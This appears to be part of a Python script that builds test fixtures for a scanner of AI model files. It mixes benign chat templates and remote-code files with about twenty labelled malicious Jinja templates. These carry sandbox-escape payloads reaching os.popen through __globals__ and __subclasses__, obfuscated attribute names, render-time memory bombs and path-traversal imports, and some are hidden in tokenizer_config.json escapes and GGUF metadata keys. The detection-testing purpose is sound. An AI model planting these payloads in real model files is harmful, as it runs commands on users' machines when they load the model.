{{- "For each function call return a json object with function name and arguments within <tool_call></tool_call> XML tags as follows:\\n" }}
{{- "<tool_call>\\n" }}
{{- '{"name": <function-name>, "arguments": <args-dict>}\\n' }}
{{- '</tool_call><|im_end|>\\n' }}
{%- for message in messages %}
    {%- if message.role == "user" or message.role == "system" or (message.role == "assistant" and message.tool_calls is not defined) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
    {%- for tool_call in message.tool_calls %}
       {{- '\\n<tool_call>\\n' }}           {%- if tool_call.function is defined %}
                {%- set tool_call = tool_call.function %}
            {%- endif %}
            {{- '{' }}
            {{- '"name": "' }}
            {{- tool_call.name }}
            {{- '"' }}
            {{- ', '}}
            {%- if tool_call.arguments is defined %}
                {{- '"arguments": ' }}
                {%- if tool_call.arguments is string %}
                    {{- tool_call.arguments }}
                {%- else %}
                    {{- tool_call.arguments|tojson }}
                {%- endif %}
            {%- endif %}
             {{- '}' }}
            {{- '\\n</tool_call>' }}
    {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if loop.previtem and loop.previtem.role != "tool" %}
            {{- '<|im_start|>tool\\n' }}
        {%- endif %}
        {{- '<tool_response>\\n' }}
        {{- message.content }}
        {%- if not loop.last %}
            {{- '\\n</tool_response>\\n' }}
        {%- else %}
            {{- '\\n</tool_response>' }}
        {%- endif %}
        {%- if not loop.last and loop.nextitem.role != "tool" %}
            {{- '<|im_end|>' }}
        {%- elif loop.last %}
            {{- '<|im_end|>' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\\n' }}
{%- endif %}
"""

B["functionary-v3"] = """{# version=v3-llama3.1 #}{%- if not tools is defined -%}
    {%- set tools = none -%}
{%- endif -%}

{%- set has_code_interpreter = tools | selectattr("type", "equalto", "code_interpreter") | list | length > 0 -%}
{%- if has_code_interpreter -%}
    {%- set tools = tools | rejectattr("type", "equalto", "code_interpreter") | list -%}
{%- endif -%}

{#- System message + builtin tools #}
{{- bos_token + "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{%- if has_code_interpreter %}
    {{- "Environment: ipython\\n\\n" }}
{%- else -%}
    {{ "\\n"}}
{%- endif %}
{{- "Cutting Knowledge Date: December 2023\\n\\n" }}
{%- if tools %}
    {{- "\\nYou have access to the following functions:\\n\\n" }}
    {%- for t in tools %}
        {%- if "type" in t -%}
            {{ "Use the function '"|safe + t["function"]["name"] + "' to '"|safe + t["function"]["description"] + "'\\n"|safe + t["function"] | tojson() }}
        {%- else -%}
            {{ "Use the function '"|safe + t["name"] + "' to '"|safe + t["description"] + "'\\n"|safe + t | tojson() }}
        {%- endif -%}
        {{- "\\n\\n" }}
    {%- endfor %}
    {{- '\\nThink very carefully before calling functions.\\nIf a you choose to call a function ONLY reply in the following format:\\n<{start_tag}={function_name}>{parameters}{end_tag}\\n' -}}
{%- endif %}
{{- "<|eot_id|>" -}}

{%- for message in messages -%}
    {%- if message['role'] == 'user' or message['role'] == 'system' -%}
        {{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] + '<|eot_id|>' }}
    {%- elif message['role'] == 'tool' -%}
        {{ '<|start_header_id|>ipython<|end_header_id|>\\n\\n' + message['content'] + '<|eot_id|>' }}
    {%- else -%}
        {{ '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'}}
        {%- if message['content'] -%}
            {{ message['content'] }}
        {%- endif -%}
        {%- if 'tool_calls' in message and message['tool_calls'] -%}
            {%- for tool_call in message['tool_calls'] -%}
                {%- if tool_call["function"]["name"] == "python" -%}
                    {{ '<|python_tag|>' + tool_call['function']['arguments'] }}
                {%- else -%}
                    {{ '<function=' + tool_call['function']['name'] + '>' + tool_call['function']['arguments'] + '</function>' }}
                {%- endif -%}
            {%- endfor -%}
            {{ '<|eom_id|>' }}
        {%- else -%}
            {{ '<|eot_id|>' }}
        {%- endif -%}
    {%- endif -%}
{%- endfor -%}
{%- if add_generation_prompt -%}
    {{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}
{%- endif -%}"""

B["llava-1.6"] = """{% for message in messages %}{% if message['role'] != 'system' %}{{ message['role'].upper() + ': '}}{% endif %}{# Render all images first #}{% for content in message['content'] | selectattr('type', 'equalto', 'image') %}{{ '<image>\\n' }}{% endfor %}{# Render all text next #}{% if message['role'] != 'assistant' %}{% for content in message['content'] | selectattr('type', 'equalto', 'text') %}{{ content['text'] + ' '}}{% endfor %}{% else %}{% for content in message['content'] | selectattr('type', 'equalto', 'text') %}{% generation %}{{ content['text'] + ' '}}{% endgeneration %}{% endfor %}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ 'ASSISTANT:' }}{% endif %}"""

B["qwen2-vl"] = """{% set image_count = namespace(value=0) %}{% set video_count = namespace(value=0) %}{% for message in messages %}{% if loop.first and message['role'] != 'system' %}<|im_start|>system
You are a helpful assistant.<|im_end|>
{% endif %}<|im_start|>{{ message['role'] }}
{% if message['content'] is string %}{{ message['content'] }}<|im_end|>
{% else %}{% for content in message['content'] %}{% if content['type'] == 'image' or 'image' in content or 'image_url' in content %}{% set image_count.value = image_count.value + 1 %}{% if add_vision_id %}Picture {{ image_count.value }}: {% endif %}<|vision_start|><|image_pad|><|vision_end|>{% elif content['type'] == 'video' or 'video' in content %}{% set video_count.value = video_count.value + 1 %}{% if add_vision_id %}Video {{ video_count.value }}: {% endif %}<|vision_start|><|video_pad|><|vision_end|>{% elif 'text' in content %}{{ content['text'] }}{% endif %}{% endfor %}<|im_end|>
{% endif %}{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant
{% endif %}"""

B["falcon3"] = """{%- if tools %}
{{- '<|system|>\\n' }}
{%- if messages[0]['role'] == 'system' %}
{{- messages[0]['content'] }}
{%- set remaining_messages = messages[1:] %}
{%- else %}
{%- set remaining_messages = messages %}
{%- endif %}
{{- 'You are a Falcon assistant skilled in function calling. You are helpful, respectful, and concise.\\n\\n# Tools\\n\\nYou have access to the following functions. You MUST use them to answer questions when needed. For each function call, you MUST return a JSON object inside <tool_call></tool_call> tags.\\n\\n<tools>' + tools|tojson(indent=2) + '</tools>\\n\\n# Output Format\\n\\nYour response MUST follow this format when making function calls:\\n<tool_call>\\n[\\n    {"name": "function_name", "arguments": {"arg1": "value1", "arg2": "value2"}},\\n    {"name": "another_function", "arguments": {"arg": "value"}}\\n]\\n</tool_call>\\nIf no function calls are needed, respond normally without the tool_call tags.\\n' }}
{%- for message in remaining_messages %}
{%- if message['role'] == 'user' %}
{{- '<|user|>\\n' + message['content'] + '\\n' }}
{%- elif message['role'] == 'assistant' %}
{%- if message.content %}
{{- '<|assistant|>\\n' + message['content'] }}
{%- endif %}
{%- if message.tool_calls %}
{{- '\\n<tool_call>\\n' }}
{{- message.tool_calls|tojson(indent=2) }}
{{- '\\n</tool_call>' }}
{%- endif %}
{{- eos_token + '\\n' }}
{%- elif message['role'] == 'tool' %}
{{- '<|assistant|>\\n<tool_response>\\n' + message['content'] + '\\n</tool_response>\\n' }}
{%- endif %}
{%- endfor %}
{{- '<|assistant|>\\n' if add_generation_prompt }}
{%- else %}
{%- for message in messages %}
{%- if message['role'] == 'system' %}
{{- '<|system|>\\n' + message['content'] + '\\n' }}
{%- elif message['role'] == 'user' %}
{{- '<|user|>\\n' + message['content'] + '\\n' }}
{%- elif message['role'] == 'assistant' %}
{%- if not loop.last %}
{{- '<|assistant|>\\n' + message['content'] + eos_token + '\\n' }}
{%- else %}
{{- '<|assistant|>\\n' + message['content'] + eos_token }}
{%- endif %}
{%- endif %}
{%- if loop.last and add_generation_prompt %}
{{- '<|assistant|>\\n' }}
{%- endif %}
{%- endfor %}
{%- endif %}"""

B["olmo2"] = """{{ bos_token }}{% for message in messages %}{% if message['role'] == 'system' %}{{ '<|system|>\\n' + message['content'] + '\\n' }}{% elif message['role'] == 'user' %}{{ '<|user|>\\n' + message['content'] + '\\n' }}{% elif message['role'] == 'assistant' %}{% if not loop.last %}{{ '<|assistant|>\\n'  + message['content'] + eos_token + '\\n' }}{% else %}{{ '<|assistant|>\\n'  + message['content'] + eos_token }}{% endif %}{% endif %}{% if loop.last and add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}{% endfor %}"""

B["internlm2.5"] = """{{ bos_token }}{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"""

B["yi-1.5"] = """{% if messages[0]['role'] == 'system' %}{% set system_message = messages[0]['content'] %}{% endif %}{% if system_message is defined %}{{ system_message }}{% endif %}{% for message in messages %}{% set content = message['content'] %}{% if message['role'] == 'user' %}{{ '<|im_start|>user\\n' + content + '<|im_end|>\\n<|im_start|>assistant\\n' }}{% elif message['role'] == 'assistant' %}{{ content + '<|im_end|>' + '\\n' }}{% endif %}{% endfor %}"""

B["mistral-nemo"] = """{%- if messages[0]["role"] == "system" %}
    {%- set system_message = messages[0]["content"] %}
    {%- set loop_messages = messages[1:] %}
{%- else %}
    {%- set loop_messages = messages %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}
{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}

{#- This block checks for alternating user/assistant messages, skipping tool calling messages #}
{%- set ns = namespace() %}
{%- set ns.index = 0 %}
{%- for message in loop_messages %}
    {%- if not (message.role == "tool" or message.role == "tool_results" or (message.tool_calls is defined and message.tool_calls is not none)) %}
        {%- if (message["role"] == "user") != (ns.index % 2 == 0) %}
            {{- raise_exception("After the optional system message, conversation roles must alternate user/assistant/user/assistant/...") }}
        {%- endif %}
        {%- set ns.index = ns.index + 1 %}
    {%- endif %}
{%- endfor %}

{{- bos_token }}
{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS][" }}
            {%- for tool in tools %}
                {%- set tool = tool.function %}
                {{- '{"type": "function", "function": {' }}
                {%- for key, val in tool.items() if key != "return" %}
                    {%- if val is string %}
                        {{- '"' + key + '": "' + val + '"' }}
                    {%- else %}
                        {{- '"' + key + '": ' + val|tojson }}
                    {%- endif %}
                    {%- if not loop.last %}
                        {{- ", " }}
                    {%- endif %}
                {%- endfor %}
                {{- "}}" }}
                {%- if not loop.last %}
                    {{- ", " }}
                {%- else %}
                    {{- "]" }}
                {%- endif %}
            {%- endfor %}
            {{- "[/AVAILABLE_TOOLS]" }}
            {%- endif %}
        {%- if loop.last and system_message is defined %}
            {{- "[INST]" + system_message + "\\n\\n" + message["content"] + "[/INST]" }}
        {%- else %}
            {{- "[INST]" + message["content"] + "[/INST]" }}
        {%- endif %}
    {%- elif (message.tool_calls is defined and message.tool_calls is not none) %}
        {{- "[TOOL_CALLS][" }}
        {%- for tool_call in message.tool_calls %}
            {%- set out = tool_call.function|tojson %}
            {{- out[:-1] }}
            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}
                {{- raise_exception("Tool call IDs should be alphanumeric strings with length 9!") }}
            {%- endif %}
            {{- ', "id": "' + tool_call.id + '"}' }}
            {%- if not loop.last %}
                {{- ", " }}
            {%- else %}
                {{- "]" + eos_token }}
            {%- endif %}
        {%- endfor %}
    {%- elif message["role"] == "assistant" %}
        {{- message["content"] + eos_token}}
    {%- elif message["role"] == "tool_results" or message["role"] == "tool" %}
        {%- if message.content is defined and message.content.content is defined %}
            {%- set content = message.content.content %}
        {%- else %}
            {%- set content = message.content %}
        {%- endif %}
        {{- '[TOOL_RESULTS]{"content": ' + content|string + ", " }}
        {%- if not message.tool_call_id is defined or message.tool_call_id|length != 9 %}
            {{- raise_exception("Tool call IDs should be alphanumeric strings with length 9!") }}
        {%- endif %}
        {{- '"call_id": "' + message.tool_call_id + '"}[/TOOL_RESULTS]' }}
    {%- else %}
        {{- raise_exception("Only user and assistant roles are supported, with the exception of an initial optional system message!") }}
    {%- endif %}
{%- endfor %}
"""

B["loopcontrols-break"] = """{%- set ns = namespace(found=false, sys='') %}{%- for m in messages %}{%- if m.role == 'system' %}{%- set ns.found = true %}{%- set ns.sys = m.content %}{%- break %}{%- endif %}{%- endfor %}{%- if ns.found %}{{ '<<SYS>>\\n' + ns.sys + '\\n<</SYS>>\\n\\n' }}{%- endif %}{%- for m in messages %}{%- if m.role == 'system' %}{%- continue %}{%- endif %}{{ '[' ~ m.role|upper ~ '] ' ~ m.content|trim ~ '\\n' }}{%- endfor %}{%- if add_generation_prompt %}{{ '[ASSISTANT] ' }}{%- endif %}"""

B["deepseek-v3.1-thinking"] = """{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% if not thinking is defined %}{% set thinking = false %}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, system_prompt='', is_first_sp=true, is_last_user=false) %}{%- for message in messages %}{%- if message['role'] == 'system' %}{%- if ns.is_first_sp %}{% set ns.system_prompt = ns.system_prompt + message['content'] %}{% set ns.is_first_sp = false %}{%- else %}{% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}{%- endif %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{%- set ns.is_first = false -%}{%- set ns.is_last_user = true -%}{{'<\uff5cUser\uff5c>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistant' and message['content'] is not none %}{%- if ns.is_last_user %}{{'<\uff5cAssistant\uff5c></think>'}}{%- endif %}{%- set ns.is_last_user = false -%}{%- set content = message['content'] -%}{%- if '</think>' in content %}{%- set content = content.split('</think>', 1)[1] -%}{%- endif %}{{content + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- endif %}{%- endfor -%}{% if add_generation_prompt and ns.is_last_user and not ns.is_tool %}{% if not thinking %}{{'<\uff5cAssistant\uff5c></think>'}}{% else %}{{'<\uff5cAssistant\uff5c><think>'}}{% endif %}{% endif %}"""

B["format-and-join-helpers"] = """{#- Look-alike: benign uses of format, join, replace, reverse, slices and map(attribute=...). -#}
{%- set roles = messages | map(attribute='role') | list %}
{%- set header = '%s turns, roles: %s' | format(messages|length, roles|unique|join(', ')) %}
{{- '<|system|>' + header + '\\n' }}
{%- for message in messages | reverse | list | reverse %}
    {%- set name = message.name | default('anonymous') %}
    {%- set content = message['content'] | replace('\\r\\n', '\\n') | trim %}
    {{- '<|{0}|>{1}: {2}\\n'.format(message['role'], name, content) }}
    {%- if message.metadata is mapping %}
        {%- for key, value in message.metadata | dictsort %}
            {{- key ~ '=' ~ value ~ ';' }}
        {%- endfor %}
    {%- endif %}
{%- endfor %}
{%- set last = messages[-1] %}
{{- last['role'][:1] | upper ~ last['role'][1:] ~ ' spoke last.\\n' }}
{%- if add_generation_prompt %}{{ '<|assistant|>' }}{%- endif %}"""

for name, text in B.items():
    put(f"benign/templates/{name}/chat_template.jinja", text, "benign", "real-chat-template",
        f"{name} chat template look-alike")

# ---------------------------------------------------------------- malicious chat templates
HOST = ("{%- for message in messages %}{{- '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + "
        "'<|im_end|>\\n' }}{%- endfor %}{payload}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}")
POPEN = "popen('" + CMD + "').read()"
M = [
    ("select_string_underscore", "computed-name", "underscore picked from (()|select|string)[24] then attr()",
     "{%- set u = (()|select|string)[24] %}{%- set g = (u*2) ~ 'globals' ~ (u*2) %}"
     "{{ (lipsum|attr(g))['os']." + POPEN + " }}"),
    ("string_list_index", "computed-name", "underscore from (lipsum|string|list) by index, name via join",
     "{%- set c = lipsum|string|list %}{%- set n = [c[9], c[9], 'glob', 'als', c[9], c[9]]|join %}"
     "{{ lipsum|attr(n) }}"),
    ("func_globals", "direct-dunder", "cycler.next.__func__.__globals__ (bound method)",
     "{{ cycler.next.__func__.__globals__['os']." + POPEN + " }}"),
    ("dict_get_builtins", "direct-dunder", "__globals__.get('__builtins__').get('exec')",
     "{{ joiner.__init__.__globals__.get('__builtins__').get('exec')('import os') }}"),
    ("call_block_name", "data-flow", "attribute name produced by a {% call %} block body",
     "{%- macro pick(o) %}{{ o|attr(caller()|trim) }}{%- endmacro %}{%- call pick(lipsum) %}__globals__{%- endcall %}"),
    ("filter_block_name", "data-flow", "name produced by a {% filter %} block, then attr()",
     "{%- set n %}{% filter lower %}__GLOBALS__{% endfilter %}{%- endset %}{{ lipsum|attr(n|trim) }}"),
    ("messages_class", "direct-dunder", "messages.__class__.__mro__ walk on a context variable",
     "{{ messages.__class__.__mro__[1].__subclasses__() }}"),
    ("tools_loop_subclasses", "direct-dunder", "for loop over ().__class__.__base__.__subclasses__() calling warnings.catch_warnings",
     "{%- for x in ().__class__.__base__.__subclasses__() %}{%- if 'catch_warnings' in x.__name__ %}"
     "{{ x()._module.__builtins__['__import__']('os')." + POPEN + " }}{%- endif %}{%- endfor %}"),
    ("raise_exception_globals", "helper-gadget", "raise_exception.__globals__ (the transformers helper)",
     "{{ raise_exception.__globals__['__builtins__']['__import__']('os')." + POPEN + " }}"),
    ("strftime_globals", "helper-gadget", "strftime_now|attr('__globals__') (the transformers date helper)",
     "{{ (strftime_now|attr('__globals__'))['__builtins__'] }}"),
    ("tojson_globals", "helper-gadget", "tojson filter function reached as a value",
     "{%- set f = namespace|attr('__init__') %}{{ f|attr('__globals__') }}"),
    ("center_padding", "computed-name", "name padded with |center and trimmed",
     "{{ lipsum|attr(('globals'|center(9, '_'))|replace('_globals_', '__globals__')) }}"),
    ("batch_and_sum", "computed-name", "name assembled by |sum of a list of strings (start='')",
     "{{ lipsum|attr(['__glo', 'bals__']|sum(start='')) }}"),
    ("urlencode_unquote", "computed-name", "name with |title and |lower round-trip",
     "{{ lipsum|attr('__GlObAlS__'|lower) }}"),
    ("whitespace_control_hide", "direct-dunder", "payload split over lines with whitespace control and comments",
     "{%- set x = lipsum\n    .__globals__ -%}{# nothing to see #}{{- x['os']." + POPEN + " -}}"),
    ("raw_block_decoy", "direct-dunder", "payload after a raw block that holds a decoy closing tag",
     "{% raw %}{% endraw %}{{ cycler.__init__.__globals__.os." + POPEN + " }}"),
    ("memory_bomb_repeat", "resource-exhaustion", "string repetition to 10**12 characters at render time",
     "{{ 'A' * (10 ** 12) }}"),
    ("nested_range_bomb", "resource-exhaustion", "three nested 100000-step loops at render time",
     "{%- for a in range(100000) %}{%- for b in range(100000) %}{%- for c in range(100000) %}.{%- endfor %}{%- endfor %}{%- endfor %}"),
    ("import_statement", "template-load", "{% import %} of a file-system path",
     "{% import '/etc/hostname' as h %}"),
    ("extends_path", "template-load", "{% extends %} of a parent-directory path",
     "{% extends '../../../etc/hostname' %}"),
]
for name, cls, desc, payload in M:
    put(f"malicious/templates/{name}.jinja", HOST.replace("{payload}", payload), "malicious", cls, desc)

# Template inside tokenizer_config.json with JSON escapes hiding the dunders.
tc = {
    "tokenizer_class": "PreTrainedTokenizerFast",
    "bos_token": "<s>", "eos_token": "</s>",
    "chat_template": HOST.replace("{payload}", "{{ lipsum.__globals__.os." + POPEN + " }}"),
}
txt = json.dumps(tc, indent=2).replace("__globals__", "\\u005f\\u005fglobals\\u005f\\u005f")
put("malicious/tokenizer-json-escapes/tokenizer_config.json", txt, "malicious", "hf-chat-template",
    "chat_template whose dunders are JSON \\u escapes in tokenizer_config.json")
tc2 = {
    "tokenizer_class": "PreTrainedTokenizerFast",
    "chat_template": [
        {"name": "default", "template": HOST.replace("{payload}", "")},
        {"name": "rag", "template": HOST.replace("{payload}", "{{ cycler.__init__.__globals__.os." + POPEN + " }}")},
    ],
}
put("malicious/tokenizer-named-rag/tokenizer_config.json", json.dumps(tc2, indent=2), "malicious", "hf-chat-template",
    "named chat_template list; payload in the second (rag) entry")
put("malicious/processor-template/chat_template.json",
    json.dumps({"chat_template": HOST.replace("{payload}", "{{ joiner.__init__.__globals__.os." + POPEN + " }}")}, indent=2),
    "malicious", "hf-chat-template", "processor chat_template.json (vision models) with SSTI")

# ---------------------------------------------------------------- GGUF with templates in odd places
def gguf_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(kvs):
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kvs))
    for k, (t, v) in kvs:
        out += gguf_str(k) + struct.pack("<I", t)
        if t == 8:
            out += gguf_str(v)
        elif t == 4:
            out += struct.pack("<I", v)
        elif t == 9:
            out += struct.pack("<I", 8) + struct.pack("<Q", len(v)) + b"".join(gguf_str(x) for x in v)
    return out


BAD = HOST.replace("{payload}", "{{ cycler.__init__.__globals__.os." + POPEN + " }}")
GOOD = B["qwen3-think"]
base = [("general.architecture", (8, "llama")), ("general.name", (8, "aisec fixture"))]
put("malicious/gguf/template_in_array.gguf",
    gguf(base + [("tokenizer.chat_templates", (9, ["default", "tool_use"])),
                 ("tokenizer.chat_template", (8, GOOD)),
                 ("tokenizer.chat_template.tool_use", (8, BAD))]),
    "malicious", "gguf-ssti", "payload in tokenizer.chat_template.tool_use named by tokenizer.chat_templates")
put("malicious/gguf/template_in_string_array.gguf",
    gguf(base + [("tokenizer.chat_template", (9, [GOOD, BAD]))]),
    "malicious", "gguf-ssti", "tokenizer.chat_template stored as an array of strings, payload in the second")
put("malicious/gguf/template_odd_key.gguf",
    gguf(base + [("tokenizer.chat_template", (8, GOOD)), ("tokenizer.ggml.chat_template", (8, BAD))]),
    "malicious", "gguf-ssti", "payload in a template-looking key outside the usual names")
put("benign/gguf/qwen3_template.gguf", gguf(base + [("tokenizer.chat_template", (8, GOOD))]),
    "benign", "gguf-template", "Qwen3 thinking template in a metadata-only GGUF")
put("benign/gguf/llama32_template.gguf",
    gguf(base + [("tokenizer.chat_template", (8, B["llama3.2-tools"])), ("llama.context_length", (4, 131072))]),
    "benign", "gguf-template", "Llama 3.2 tools/date template in a metadata-only GGUF")

# ---------------------------------------------------------------- Python remote code
PY_BENIGN = {
"benign/hf-remote/modeling_custom.py": '''# coding=utf-8
"""PyTorch custom causal LM (remote code), in the style of published remote-code models."""
import importlib.metadata
import importlib.util
import inspect
import math
import os
import sys
import warnings
from typing import List, Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import is_flash_attn_2_available, logging

from .configuration_custom import CustomConfig

sys.path.append(os.path.dirname(os.path.abspath(__file__)))
logger = logging.get_logger(__name__)

if is_flash_attn_2_available():
    from flash_attn import flash_attn_func, flash_attn_varlen_func
    _flash_supports_window_size = "window_size" in list(inspect.signature(flash_attn_func).parameters)

_HAS_TRITON = importlib.util.find_spec("triton") is not None
try:
    _TORCH_VERSION = importlib.metadata.version("torch")
except importlib.metadata.PackageNotFoundError:
    _TORCH_VERSION = "0"

ACT2FN = {"silu": F.silu, "gelu": F.gelu, "relu": F.relu}


def _get_unpad_data(attention_mask):
    seqlens = attention_mask.sum(dim=-1, dtype=torch.int32)
    indices = torch.nonzero(attention_mask.flatten(), as_tuple=False).flatten()
    return indices, seqlens


class CustomAttention(nn.Module):
    def __init__(self, config: CustomConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.config = config
        self.head_dim = config.hidden_size // config.num_attention_heads
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size, bias=False)
        self.o_proj = nn.Linear(config.hidden_size, config.hidden_size, bias=False)
        self.act = ACT2FN[getattr(config, "hidden_act", "silu")]
        if os.environ.get("CUSTOM_DISABLE_FLASH", "0") == "1":
            warnings.warn("flash attention disabled by environment")

    def forward(self, x):
        q, k, v = self.qkv(x).chunk(3, dim=-1)
        w = torch.softmax(q @ k.transpose(-1, -2) / math.sqrt(self.head_dim), dim=-1)
        return self.o_proj(w @ v)


class CustomPreTrainedModel(PreTrainedModel):
    config_class = CustomConfig
    base_model_prefix = "model"
    _no_split_modules = ["CustomAttention"]

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)


class CustomForCausalLM(CustomPreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([CustomAttention(config, i) for i in range(config.num_hidden_layers)])
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)
        self.post_init()

    def forward(self, hidden):
        for layer in self.layers:
            hidden = layer(hidden)
        return self.lm_head(hidden)
''',
"benign/hf-remote/configuration_custom.py": '''from transformers.configuration_utils import PretrainedConfig


class CustomConfig(PretrainedConfig):
    model_type = "custom"
    keys_to_ignore_at_inference = ["past_key_values"]

    def __init__(self, vocab_size=32000, hidden_size=4096, num_attention_heads=32, num_hidden_layers=32,
                 hidden_act="silu", initializer_range=0.02, rope_scaling=None, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_attention_heads = num_attention_heads
        self.num_hidden_layers = num_hidden_layers
        self.hidden_act = hidden_act
        self.initializer_range = initializer_range
        self.rope_scaling = rope_scaling
        self._rope_scaling_validation()
        super().__init__(**kwargs)

    def _rope_scaling_validation(self):
        if self.rope_scaling is None:
            return
        if not isinstance(self.rope_scaling, dict) or len(self.rope_scaling) != 2:
            raise ValueError(f"`rope_scaling` must be a dictionary with two fields, got {self.rope_scaling}")
''',
"benign/hf-remote/tokenization_custom.py": '''"""Tokenizer for a tiktoken-style BPE, as remote-code models ship it."""
import base64
import os
import unicodedata
from typing import Collection, Dict, List, Set, Union

import tiktoken
from transformers import AddedToken, PreTrainedTokenizer

VOCAB_FILES_NAMES = {"vocab_file": "custom.tiktoken"}
PAT_STR = r"""(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}| ?[^\\s\\p{L}\\p{N}]+[\\r\\n]*|\\s*[\\r\\n]+|\\s+(?!\\S)|\\s+"""


def _load_tiktoken_bpe(tiktoken_bpe_file: str) -> Dict[bytes, int]:
    with open(tiktoken_bpe_file, "rb") as f:
        contents = f.read()
    return {
        base64.b64decode(token): int(rank)
        for token, rank in (line.split() for line in contents.splitlines() if line)
    }


class CustomTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES

    def __init__(self, vocab_file, errors="replace", **kwargs):
        self.errors = errors
        self.mergeable_ranks = _load_tiktoken_bpe(vocab_file)
        self.tokenizer = tiktoken.Encoding("custom", pat_str=PAT_STR, mergeable_ranks=self.mergeable_ranks,
                                           special_tokens={})
        super().__init__(**kwargs)

    def save_vocabulary(self, save_directory: str, **kwargs):
        file_path = os.path.join(save_directory, "custom.tiktoken")
        with open(file_path, "w", encoding="utf8") as w:
            for k, v in self.mergeable_ranks.items():
                line = base64.b64encode(k).decode("utf8") + " " + str(v) + "\\n"
                w.write(line)
        return (file_path,)

    def _tokenize(self, text, **kwargs):
        text = unicodedata.normalize("NFC", text)
        return [self.tokenizer.decode_single_token_bytes(t) for t in self.tokenizer.encode(text)]
''',
"benign/hf-remote/visual_utils.py": '''"""Image loading for a vision-language remote-code model (caller-supplied paths and URLs)."""
import io
from typing import List

import requests
from PIL import Image


def load_image(image_file: str, timeout: float = 10.0) -> Image.Image:
    if image_file.startswith("http://") or image_file.startswith("https://"):
        response = requests.get(image_file, stream=True, timeout=timeout)
        response.raise_for_status()
        image = Image.open(io.BytesIO(response.content))
    else:
        image = Image.open(image_file)
    return image.convert("RGB")


def load_images(files: List[str]) -> List[Image.Image]:
    return [load_image(f) for f in files]
''',
"benign/hf-remote/generation_streamer.py": '''"""Streaming chat helper in the style of InternLM / ChatGLM remote code."""
import copy
import queue
import threading
from typing import Optional

import torch
from transformers.generation.streamers import BaseStreamer


class ChatStreamer(BaseStreamer):
    def __init__(self, tokenizer):
        self.tokenizer = tokenizer
        self.queue = queue.Queue()
        self.received_inputs = False

    def put(self, value):
        self.queue.put(self.tokenizer.decode(value.tolist()))

    def end(self):
        self.queue.put(None)


def stream_chat(model, tokenizer, query: str, history: Optional[list] = None, **kwargs):
    history = copy.deepcopy(history or [])
    streamer = ChatStreamer(tokenizer)
    inputs = tokenizer([query], return_tensors="pt")
    thread = threading.Thread(target=model.generate, kwargs=dict(inputs, streamer=streamer, **kwargs))
    thread.start()
    while True:
        item = streamer.queue.get()
        if item is None:
            break
        yield item
    thread.join()
''',
}
for rel, src in PY_BENIGN.items():
    put(rel, src, "benign", "hf-remote-code-py", "remote-code look-alike: " + os.path.basename(rel))

put("benign/hf-remote/config.json", json.dumps({
    "architectures": ["CustomForCausalLM"],
    "auto_map": {"AutoConfig": "configuration_custom.CustomConfig",
                 "AutoModelForCausalLM": "modeling_custom.CustomForCausalLM"},
    "model_type": "custom", "hidden_size": 64, "num_attention_heads": 4, "num_hidden_layers": 2,
    "vocab_size": 1000, "torch_dtype": "bfloat16", "transformers_version": "4.44.0"}, indent=2),
    "benign", "hf-remote-code", "auto_map naming files present in the repo")
put("benign/hf-remote/tokenizer_config.json", json.dumps({
    "auto_map": {"AutoTokenizer": ["tokenization_custom.CustomTokenizer", None]},
    "tokenizer_class": "CustomTokenizer", "model_max_length": 32768,
    "chat_template": B["qwen3-think"]}, indent=2),
    "benign", "hf-tokenizer-config", "remote tokenizer auto_map and the Qwen3 chat template")

# Other real-world repo JSON files.
put("benign/diffusers/model_index.json", json.dumps({
    "_class_name": "StableDiffusionXLPipeline", "_diffusers_version": "0.30.0",
    "feature_extractor": [None, None], "force_zeros_for_empty_prompt": True, "image_encoder": [None, None],
    "scheduler": ["diffusers", "EulerDiscreteScheduler"], "text_encoder": ["transformers", "CLIPTextModel"],
